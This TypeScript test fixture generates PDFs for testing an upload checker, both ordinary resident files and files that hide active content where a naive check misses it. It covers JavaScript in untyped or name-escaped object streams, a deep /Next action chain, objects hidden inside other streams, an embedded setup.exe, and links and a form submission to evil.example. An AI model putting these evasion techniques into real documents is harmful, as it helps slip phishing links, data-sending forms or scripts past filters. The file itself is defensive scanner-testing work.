import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';

// PDFs for the active-content tests, made on the fly (nothing binary is committed): files a resident really sends,
// and files that carry something a reader acts on, hidden where the first upload check did not look.

interface ObjectStream {
  number: number;
  /** What the stream's dictionary says besides /N, /First, /Length, /Filter: '/Type /ObjStm', '', '/Type /#4fbjStm' … */
  dict: string;
  members: Record<number, string>;
}

export interface HandPdf {
  /** Uncompressed objects, by number: the text between `N 0 obj` and `endobj`. */
  objects: Record<number, string>;
  objectStreams?: ObjectStream[];
  /** Offsets the cross-reference must point at instead of an object's own (objects hidden in other bytes). */
  offsets?: Record<number, (bytes: string) => number>;
  root?: number;
}

/**
 * A PDF written byte by byte with a cross-reference stream (so objects can live in object streams), every offset
 * right: what a hostile producer would write, readable by any conforming reader.
 */
export function handPdf(spec: HandPdf): Buffer {
  let text = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const where = new Map<number, { type: 1; offset: number } | { type: 2; stream: number; index: number }>();
  const write = (n: number, body: string): void => {
    where.set(n, { type: 1, offset: text.length });
    text += `${n} 0 obj\n${body}\nendobj\n`;
  };
  for (const [n, body] of Object.entries(spec.objects)) write(Number(n), body);
  for (const os of spec.objectStreams ?? []) {
    const members = Object.entries(os.members);
    let header = '';
    let data = '';
    members.forEach(([n, body], index) => {
      header += `${n} ${data.length} `;
      data += `${body}\n`;
      where.set(Number(n), { type: 2, stream: os.number, index });
    });
    const packed = deflateSync(Buffer.from(header + data, 'latin1')).toString('latin1');
    write(
      os.number,
      `<< ${os.dict} /N ${members.length} /First ${header.length} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`,
    );
  }
  for (const [n, at] of Object.entries(spec.offsets ?? {})) where.set(Number(n), { type: 1, offset: at(text) });

  const xrefNumber = Math.max(0, ...where.keys()) + 1;
  const size = xrefNumber + 1;
  const xrefOffset = text.length;
  const rows = Buffer.alloc(size * 7);
  for (let n = 0; n < size; n++) {
    const entry = n === xrefNumber ? { type: 1 as const, offset: xrefOffset } : where.get(n);
    if (entry?.type === 1) {
      rows.writeUInt8(1, n * 7);
      rows.writeUInt32BE(entry.offset, n * 7 + 1);
    } else if (entry?.type === 2) {
      rows.writeUInt8(2, n * 7);
      rows.writeUInt32BE(entry.stream, n * 7 + 1);
      rows.writeUInt16BE(entry.index, n * 7 + 5);
    } // else type 0: a free entry (the buffer is zeros)
  }
  text += `${xrefNumber} 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 2] /Root ${spec.root ?? 1} 0 R /Length ${rows.length} >>\nstream\n${rows.toString('latin1')}\nendstream\nendobj\n`;
  text += `startxref\n${xrefOffset}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const catalog = (extra = '') => `<< /Type /Catalog /Pages 2 0 R ${extra} >>`;
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (extra = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${extra} >>`;
const alert = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [10 10 190 40] /Border [0 0 0] /A ${action} >>`;

/** What pdf.js reports for a file, in the terms of the check: where it would act. */
export type Seen = 'javascript' | 'attachment' | 'link' | 'annotation';

export interface CorpusFile {
  name: string;
  /** Where an independent reader (pdf.js) finds the active content of a malicious file. */
  seen?: Seen;
  bytes: () => Promise<Buffer>;
}

/** Files with something a reader acts on, each hidden where the first version of the check did not look. */
export const maliciousPdfs: CorpusFile[] = [
  {
    name: 'OpenAction JavaScript in an object stream without /Type',
    seen: 'javascript',
    bytes: async () =>
      handPdf({
        objects: { 1: catalog('/OpenAction 10 0 R'), 2: pages, 3: page() },
        objectStreams: [{ number: 9, dict: '', members: { 10: alert } }],
      }),
  },
  {
    name: 'OpenAction JavaScript in an object stream whose /Type is written /#4fbjStm, its own names escaped',
    seen: 'javascript',
    bytes: async () =>
      handPdf({
        objects: { 1: catalog('/OpenAction 10 0 R'), 2: pages, 3: page() },
        objectStreams: [
          { number: 9, dict: '/Type /#4fbjStm', members: { 10: '<< /#53 /J#61vaScript /#4aS (app.alert\\(1\\)) >>' } },
        ],
      }),
  },
  {
    name: 'an embedded file in a name tree inside an object stream without /Type, the file stream untyped',
    seen: 'attachment',
    bytes: async () =>
      handPdf({
        objects: { 1: catalog('/Names 10 0 R'), 2: pages, 3: page(), 14: '<< /Length 2 >>\nstream\nMZ\nendstream' },
        objectStreams: [
          {
            number: 9,
            dict: '',
            members: {
              10: '<< /EmbeddedFiles 11 0 R >>',
              11: '<< /Kids [12 0 R] >>',
              12: '<< /Limits [(setup.exe) (setup.exe)] /Names [(setup.exe) 13 0 R] >>',
              13: '<< /Type /Filespec /F (setup.exe) /UF (setup.exe) /EF << /F 14 0 R >> >>',
            },
          },
        ],
      }),
  },
  {
    name: 'JavaScript 61 steps down a /Next chain of the document’s will-print action',
    seen: 'javascript',
    bytes: async () => {
      let action = alert;
      for (let i = 0; i < 61; i++) action = `<< /S /GoTo /D [3 0 R /Fit] /Next ${action} >>`;
      return handPdf({
        objects: { 2: pages, 3: page() },
        objectStreams: [{ number: 9, dict: '/Type /ObjStm', members: { 1: catalog(`/AA << /WP ${action} >>`) } }],
      });
    },
  },
  {
    name: 'a link to a web address (/URI)',
    seen: 'link',
    bytes: async () =>
      handPdf({
        objects: {
          1: catalog(),
          2: pages,
          3: page('/Annots [4 0 R]'),
          4: link('<< /S /URI /URI (https://evil.example/login) >>'),
        },
      }),
  },
  {
    name: 'a link that opens another file (/GoToR) from an untyped object stream',
    seen: 'link',
    bytes: async () =>
      handPdf({
        objects: { 1: catalog(), 2: pages, 3: page('/Annots [4 0 R]') },
        objectStreams: [
          {
            number: 9,
            dict: '',
            members: { 4: link('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>') },
          },
        ],
      }),
  },
  {
    name: 'a form submission (/SubmitForm) sending the fields to another server',
    seen: 'annotation',
    bytes: async () =>
      handPdf({
        objects: {
          1: catalog(),
          2: pages,
          3: page('/Annots [4 0 R]'),
          4: link('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>'),
        },
      }),
  },
  {
    name: 'OpenAction JavaScript in an object hidden inside another stream’s bytes, found through the cross-reference',
    seen: 'javascript',
    bytes: async () => {
      const hidden = `10 0 obj\n${alert}\nendobj\n`;
      return handPdf({
        objects: {
          1: catalog('/OpenAction 10 0 R'),
          2: pages,
          3: page(),
          5: `<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream`,
        },
        offsets: { 10: (text) => text.indexOf('10 0 obj') },
      });
    },
  },
];

async function picture(format: 'jpeg' | 'png'): Promise<Buffer> {
  const image = sharp({ create: { width: 320, height: 240, channels: 3, background: { r: 240, g: 236, b: 220 } } });
  return format === 'jpeg' ? image.jpeg({ quality: 70 }).toBuffer() : image.png().toBuffer();
}

/** Files residents really send: exported documents, scans (images on pages), forms, long outlines, internal links. */
export const goodPdfs: CorpusFile[] = [
  {
    name: 'a pdf-lib document with text, saved with object streams',
    bytes: async () => {
      const doc = await PDFDocument.create();
      doc
        .addPage([595, 842])
        .drawText('Application 2026', { x: 50, y: 780, font: await doc.embedFont(StandardFonts.Helvetica) });
      return Buffer.from(await doc.save({ useObjectStreams: true }));
    },
  },
  {
    name: 'a scan: three pages of JPEG and PNG images, several fonts, no object streams',
    bytes: async () => {
      const doc = await PDFDocument.create();
      const jpg = await doc.embedJpg(await picture('jpeg'));
      const png = await doc.embedPng(await picture('png'));
      for (const [i, image] of [jpg, png, jpg].entries()) {
        const p = doc.addPage([595, 842]);
        p.drawImage(image, { x: 0, y: 0, width: 595, height: 842 });
        p.drawText(`page ${i + 1}`, {
          x: 20,
          y: 20,
          size: 9,
          font: await doc.embedFont([StandardFonts.TimesRoman, StandardFonts.Courier, StandardFonts.HelveticaBold][i]),
        });
      }
      doc.setTitle('scan');
      return Buffer.from(await doc.save({ useObjectStreams: false }));
    },
  },
  {
    name: 'a fillable form with a text field, a check box and a drop-down',
    bytes: async () => {
      const doc = await PDFDocument.create();
      const p = doc.addPage([595, 842]);
      const form = doc.getForm();
      form.createTextField('applicant.name').addToPage(p, { x: 50, y: 700, width: 200, height: 24 });
      form.createCheckBox('agree').addToPage(p, { x: 50, y: 650, width: 16, height: 16 });
      const choice = form.createDropdown('county');
      choice.addOptions(['文峰区', '北关区']);
      choice.addToPage(p, { x: 50, y: 600, width: 200, height: 24 });
      return Buffer.from(await doc.save());
    },
  },
  {
    name: 'an exported report: 120 outline entries on a /Next chain, an internal link, OpenAction to page 1, XMP metadata',
    bytes: async () => {
      const doc = await PDFDocument.create();
      const first = doc.addPage([595, 842]);
      doc.addPage([595, 842]);
      const ctx = doc.context;
      const items = Array.from({ length: 120 }, () => ctx.nextRef());
      const outlines = ctx.nextRef();
      items.forEach((ref, i) => {
        const item = ctx.obj({ Title: `Section ${i + 1}`, Parent: outlines, Dest: [first.ref, 'Fit'] });
        if (i > 0) item.set(PDFName.of('Prev'), items[i - 1]);
        if (i < items.length - 1) item.set(PDFName.of('Next'), items[i + 1]);
        ctx.assign(ref, item);
      });
      ctx.assign(
        outlines,
        ctx.obj({ Type: 'Outlines', First: items[0], Last: items[items.length - 1], Count: items.length }),
      );
      doc.catalog.set(PDFName.of('Outlines'), outlines);
      doc.catalog.set(PDFName.of('PageMode'), PDFName.of('UseOutlines'));
      doc.catalog.set(PDFName.of('OpenAction'), ctx.obj([first.ref, 'Fit']));
      const internal = ctx.register(
        ctx.obj({
          Type: 'Annot',
          Subtype: 'Link',
          Rect: [10, 10, 100, 30],
          Border: [0, 0, 0],
          Dest: [doc.getPage(1).ref, 'Fit'],
        }),
      );
      first.node.set(PDFName.of('Annots'), ctx.obj([internal]));
      const xmp =
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/><?xpacket end="w"?>';
      doc.catalog.set(PDFName.of('Metadata'), ctx.register(ctx.stream(xmp, { Type: 'Metadata', Subtype: 'XML' })));
      return Buffer.from(await doc.save({ useObjectStreams: true }));
    },
  },
  {
    name: 'a hand-written file whose content stream says /JS and /URI (operands, not actions), objects in a typed object stream',
    bytes: async () => {
      const content = '/URI gs q 100 0 0 100 50 50 cm /Im1 Do Q q /JS Do Q';
      return handPdf({
        objects: {
          2: pages,
          3: page('/Contents 4 0 R /Resources << /XObject << /Im1 5 0 R >> >>'),
          4: `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
          5: '<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Length 0 >>\nstream\n\nendstream',
        },
        objectStreams: [
          { number: 9, dict: '/Type /ObjStm', members: { 1: catalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>') } },
        ],
      });
    },
  },
];
